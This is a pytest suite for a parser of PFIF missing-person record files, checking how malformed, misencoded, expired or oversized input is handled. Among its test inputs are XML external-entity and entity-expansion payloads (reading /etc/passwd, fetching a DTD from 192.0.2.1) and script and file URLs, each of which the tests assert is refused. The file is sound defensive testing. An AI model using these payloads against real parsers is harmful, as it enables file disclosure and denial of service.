"""PFIF files from outside: what is understood, and what every kind of bad input comes to."""

import tracemalloc
from dataclasses import replace
from datetime import UTC, datetime
from io import BytesIO

import pytest

from app.domain.errors import Refused
from app.domain.pfif import PfifNote, PfifPerson
from app.domain.pfif_report import Dropped, Fate, Line
from app.wire import pfif_parse
from app.wire.pfif_read import survey, taken
from tests.pfif_files import NOW, document, note, person, read, said, surveyed

FULL = {
    "person_record_id": "example.org/p1",
    "entry_date": "2026-04-02T00:00:00Z",
    "author_name": "王建国",
    "author_phone": "13800000001",
    "source_name": "寻亲网",
    "source_date": "2026-04-01T00:00:00Z",
    "given_name": "秀英",
    "family_name": "欧阳",
    "home_city": "成都市",
    "home_state": "CN-SC",
    "home_postal_code": "610000",
    "photo_url": "https://example.org/p1.jpg",
    "description": "左手有疤\n说四川话",
}


def _fates(text: str | bytes) -> list[tuple[str, str]]:
    return [(one.fate.value, one.why) for one in surveyed(text).lines]


def _left(text: str) -> tuple[Dropped, ...]:
    (line,) = surveyed(text).lines
    return line.dropped


@pytest.mark.parametrize("version", ["1.1", "1.2", "1.3", "1.4"])
def test_a_record_says_the_same_in_every_version(version: str) -> None:
    seen = note({"author_made_contact": "true", "last_known_location": "成都东站"}, version)
    tags = f"<p:person>{said(FULL, version)}{seen}</p:person>"
    (found,) = read(document(tags, version=version))
    assert isinstance(found, PfifPerson)
    assert found.full_name == "欧阳秀英"
    assert (found.family_name, found.given_name) == ("欧阳", "秀英")
    assert found.home_postal_code == "610000"
    assert found.description == "左手有疤\n说四川话"
    assert found.source_date == datetime(2026, 4, 1, tzinfo=UTC)
    (told,) = found.notes
    assert told.author_made_contact is True
    assert told.person_record_id == "example.org/p1"


def test_the_description_of_an_older_file_loses_its_label() -> None:
    other = {"description": "description:\n    左手有疤\n    说四川话"}
    (found,) = read(document(person(other, version="1.2"), version="1.2"))
    assert isinstance(found, PfifPerson)
    assert found.description == "左手有疤\n说四川话"


def test_records_are_found_in_a_feed() -> None:
    feed = (
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:p="http://zesty.ca/pfif/1.3">'
        f"<title>寻人</title><entry><id>1</id>{person({}, version='1.3')}</entry>"
        f"<entry>{note({'person_record_id': 'example.org/p1'}, version='1.3')}</entry></feed>"
    )
    found = read(feed)
    assert [type(one) for one in found] == [PfifPerson, PfifNote]


@pytest.mark.parametrize(
    ("field", "text", "why"),
    [
        ("sex", "x", "bad_sex"),
        ("age", "40-30", "bad_age"),
        ("age", "151", "bad_age"),
        ("date_of_birth", "2001-02-30", "bad_birth"),
        ("date_of_birth", "2027", "future_date"),
        ("entry_date", "2026-05-03T00:00:00Z", "future_date"),
        ("entry_date", "2026-13-01T00:00:00Z", "bad_date"),
        ("expiry_date", "soon", "bad_date"),
        ("home_country", "China", "bad_country"),
        ("photo_url", "javascript:alert(1)", "bad_url"),
        ("photo_url", "file:///etc/passwd", "bad_url"),
        ("author_email", "nobody", "bad_email"),
        ("author_phone", "no", "bad_phone"),
        ("given_name", "长" * 301, "too_long"),
        ("given_name", "damaged \ufffd", "damaged"),
        ("shoe_size", "42", "unknown_field"),
    ],
)
def test_a_bad_field_is_left_out_and_told(field: str, text: str, why: str) -> None:
    assert _left(document(person({field: text}))) == (Dropped(field=field, why=why),)
    (found,) = read(document(person({field: text})))
    assert not getattr(found, field, None)


def test_a_time_of_another_zone_is_understood() -> None:
    (found,) = read(document(person({"source_date": "2026-04-01T08:30:00.25+08:00"})))
    assert found.source_date == datetime(2026, 4, 1, 0, 30, 0, 250_000, tzinfo=UTC)


def test_an_age_without_a_day_says_nothing() -> None:
    tags = said({"person_record_id": "example.org/p1", "full_name": "王芳", "age": "40"})
    assert _left(document(f"<p:person>{tags}</p:person>"))[0].why == "age_of_no_day"


def test_of_a_long_description_the_beginning_is_kept() -> None:
    text = document(person({"description": "疤" * 10_001}))
    assert _left(text) == (Dropped(field="description", why="cut"),)
    (found,) = read(text)
    assert isinstance(found, PfifPerson)
    assert found.description == "疤" * 10_000


def test_a_field_that_is_said_twice_or_has_tags_inside_is_told() -> None:
    twice = said({"sex": "male"}) + said({"sex": "female"})
    tags = said({"person_record_id": "example.org/p1"}) + twice
    full_name = "<p:full_name>王<b>芳</b></p:full_name>" + said({"family_name": "王"})
    assert _left(document(f"<p:person>{tags}{full_name}</p:person>")) == (
        Dropped(field="sex", why="twice"),
        Dropped(field="full_name", why="not_text"),
    )


def test_what_turns_the_direction_of_writing_is_removed() -> None:
    (found,) = read(document(person({"full_name": "王\u202e芳𬎆"})))
    assert isinstance(found, PfifPerson)
    assert found.full_name == "王芳𬎆"


def test_of_two_copies_the_newer_counts_wherever_it_stands() -> None:
    new = person({"source_date": "2026-04-09T00:00:00Z", "full_name": "新"})
    old = person({"source_date": "2026-04-01T00:00:00Z", "full_name": "旧"})
    for text in (document(new, old), document(old, new)):
        (found,) = read(text)
        assert isinstance(found, PfifPerson)
        assert found.full_name == "新"
    assert _fates(document(new, old)) == [("taken", ""), ("refused", "older_copy")]


def test_what_has_expired_is_refused_and_named_for_removal() -> None:
    past, ahead = "2026-04-30T00:00:00Z", "2026-05-02T00:00:00Z"
    stays = person({"person_record_id": "example.org/p2", "expiry_date": ahead})
    report = surveyed(document(person({"expiry_date": past}, note({})), stays))
    assert [one.fate for one in report.lines] == [Fate.EXPIRED, Fate.EXPIRED, Fate.TAKEN]
    assert list(report.expired) == ["example.org/p1"]


def test_a_record_that_was_taken_back_is_not_taken_from_an_older_copy() -> None:
    gone = {"source_date": "2026-04-20T00:00:00Z", "expiry_date": "2026-04-20T00:00:00Z"}
    text = document(person(gone), person({"full_name": "王芳"}))
    assert _fates(text) == [("expired", "expired"), ("refused", "older_copy")]
    assert read(text) == []


def test_a_note_needs_its_person() -> None:
    alone = note({"person_record_id": "example.org/other"})
    assert _fates(document(alone)) == [("refused", "note_alone")]
    report = survey(
        BytesIO(document(alone).encode()), NOW, known={"example.org/other"}.__contains__
    )
    assert [one.fate for one in report.lines] == [Fate.TAKEN]
    inside = person({}, note({"person_record_id": "example.org/other"}))
    assert _fates(document(inside))[1] == ("refused", "note_of_another")


def test_our_own_people_come_back_as_nobody_new_but_what_is_said_of_them_is_taken() -> None:
    text = document(person({}, note({})), person({"person_record_id": "example.org.cn/1"}))
    known = {"example.org/p1"}.__contains__
    report = survey(BytesIO(text.encode()), NOW, known=known, own="example.org")
    assert [one.why for one in report.lines] == ["our_own", "", ""]
    found = list(taken(BytesIO(text.encode()), report, NOW))
    assert [one.record_id for one in found] == ["example.org/n1", "example.org.cn/1"]


def test_records_without_a_number_or_content_are_refused() -> None:
    tags = "<p:person><p:full_name>王芳</p:full_name></p:person>"
    empty = person({"full_name": ""})
    odd = person({"person_record_id": "number 7"})
    assert [why for _, why in _fates(document(tags, empty, odd))] == [
        "no_id",
        "says_nothing",
        "bad_id",
    ]


def test_a_line_says_where_its_record_stands() -> None:
    report = surveyed(document(person({}), person({"person_record_id": "example.org/p2"})))
    assert report.lines[1] == Line(
        index=2,
        line=8,
        kind="person",
        record_id="example.org/p2",
        person_id="example.org/p2",
        fate=Fate.TAKEN,
    )


# Big5 that calls itself GBK is not among them: its bytes are good GBK.
@pytest.mark.parametrize(
    ("codec", "declared"),
    [
        *(("utf-8-sig", "GBK"), ("utf-8", "Big5"), ("utf-8", "nonsense"), ("utf-16", "UTF-8")),
        *(("utf-16-le", "GBK"), ("gb18030", "UTF-8"), ("gb18030", "GBK"), ("gbk", "Big5")),
        *(("gb18030", "UTF-16"), ("big5", "UTF-8"), ("big5", "Big5"), ("big5", "nonsense")),
    ],
)
def test_the_true_encoding_is_found_whatever_is_declared(codec: str, declared: str) -> None:
    name, told = "歐陽秀英王芳" if codec == "big5" else "欧阳秀英王芳", "四川省成都市人氏"
    text = document(person({"full_name": name, "home_city": told}), encoding=declared)
    (found,) = read(text.encode(codec))
    assert isinstance(found, PfifPerson)
    assert found.full_name == name
    report = surveyed(text.encode(codec))
    assert report.damaged == 0


def test_damaged_bytes_cost_one_field_and_not_the_file() -> None:
    data = document(person({"full_name": "王芳" * 20, "home_city": "成X市"})).encode()
    report = surveyed(data.replace(b"X", b"\xe6\x88"))
    (line,) = report.lines
    assert (line.fate, line.dropped) == (Fate.TAKEN, (Dropped(field="home_city", why="damaged"),))
    assert (report.damaged, report.encoding) == (1, "utf-8")


@pytest.mark.parametrize(
    ("data", "key"),
    [
        (b"", "pfif.empty"),
        (b"\xef\xbb\xbf \n", "pfif.empty"),
        (b"PK\x03\x04rest", "pfif.packed"),
        (b"name,sex\n", "pfif.not_xml"),
        (b"\x00\x01\x02", "pfif.not_xml"),
        (b"<html><body>404</body></html>", "pfif.not_pfif"),
        (b"<!DOCTYPE html><html></html>", "pfif.not_pfif"),
        (b"<pfif><person/></pfif>", "pfif.not_pfif"),
        (b'<feed xmlns="http://www.w3.org/2005/Atom"/>', "pfif.not_pfif"),
        (document(version="9.9").encode(), "pfif.version"),
    ],
)
def test_what_is_no_pfif_is_refused_as_a_whole(data: bytes, key: str) -> None:
    with pytest.raises(Refused) as refused:
        surveyed(data)
    assert refused.value.key == key


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE p SYSTEM "http://192.0.2.1/evil.dtd">',
        '<!DOCTYPE p [<!ENTITY % e SYSTEM "http://192.0.2.1/e"> %e;]>',
    ],
)
def test_a_doctype_ends_the_reading_before_anything_is_expanded(doctype: str) -> None:
    text = document(person({"description": "BOMB"})).replace("BOMB", "&b;&x;")
    head, body = text.split("\n", 1)
    with pytest.raises(Refused) as refused:
        surveyed(f"{head}\n{doctype}\n{body}")
    assert refused.value.key == "pfif.doctype"


def test_an_entity_that_nobody_declared_breaks_the_file_there() -> None:
    text = document(person({}), person({"person_record_id": "example.org/p2"}))
    report = surveyed(text.replace("example.org/p2", "&x;"))
    assert (report.broken, len(report.lines)) == ("pfif.broken_xml", 1)


def test_of_a_file_that_breaks_off_the_whole_records_are_told_and_none_taken() -> None:
    text = document(person({}), person({"person_record_id": "example.org/p2"}))
    half = text[: text.index("example.org/p2") + 20].encode() + "王".encode()[:2]
    report = surveyed(half)
    assert (report.broken, report.broken_at) == ("pfif.cut_off", 9)
    assert [one.record_id for one in report.lines] == ["example.org/p1"]
    with pytest.raises(Refused) as refused:
        list(taken(BytesIO(half), report, NOW))
    assert refused.value.key == "pfif.cut_off"
    assert len(list(taken(BytesIO(half), report, NOW, even_broken=True))) == 1


def test_a_file_that_changed_since_its_report_is_not_taken() -> None:
    report = surveyed(document(person({})))
    other = document(person({"person_record_id": "example.org/p9"}))
    with pytest.raises(Refused) as refused:
        list(taken(BytesIO(other.encode()), report, NOW))
    assert refused.value.key == "pfif.changed"


@pytest.mark.parametrize(
    ("inside", "key"),
    [
        ("<a>" * 50, "pfif.too_deep"),
        (f'<p:person x="{"y" * 3_000_000}">', "pfif.endless_tag"),
        (f"<!-- {'y' * 3_000_000} -->", "pfif.endless_tag"),
        ("".join(f"<a{n}/>" for n in range(9000)), "pfif.too_many_tags"),
    ],
)
def test_tags_without_end_are_not_followed(inside: str, key: str) -> None:
    report = surveyed(document(person({}), inside))
    assert (report.broken, len(report.lines)) == (key, 1)


def test_reading_ends_at_the_most_records(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pfif_parse, "MOST_RECORDS", 2)
    ids = [person({"person_record_id": f"example.org/{n}"}) for n in range(4)]
    report = surveyed(document(*ids))
    assert (report.broken, len(report.lines)) == ("pfif.too_many", 2)


def test_of_very_many_notes_the_first_are_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pfif_parse, "MOST_NOTES", 2)
    notes = [note({"note_record_id": f"example.org/n{n}"}) for n in range(3)]
    assert _fates(document(person({}, *notes)))[3] == ("refused", "too_many_notes")


def test_reading_can_be_stopped() -> None:
    with pytest.raises(Refused) as refused:
        survey(BytesIO(document(person({})).encode()), NOW, going=lambda _done, _of: False)
    assert refused.value.key == "pfif.stopped"


def test_a_field_of_many_megabytes_is_not_held() -> None:
    data = document(person({"full_name": "x" * 8_000_000})).encode()
    tracemalloc.start()
    (line,) = surveyed(data).lines
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert line.dropped == (Dropped(field="full_name", why="too_long"),)
    assert peak < 4_000_000


def test_notes_in_an_older_copy_are_notes_all_the_same() -> None:
    old = person({"source_date": "2026-01-01T00:00:00Z"}, note({}))
    found = read(document(old, person({})))
    assert [one.record_id for one in found] == ["example.org/n1", "example.org/p1"]


def test_a_later_note_replaces_its_older_copy() -> None:
    later = note({"source_date": "2026-04-03T00:00:00Z", "text": "又见到了"})
    (found,) = read(document(person({}, note({}), later)))
    assert isinstance(found, PfifPerson)
    assert [one.text for one in found.notes] == ["又见到了"]
    assert replace(found, notes=()) in read(document(person({})))
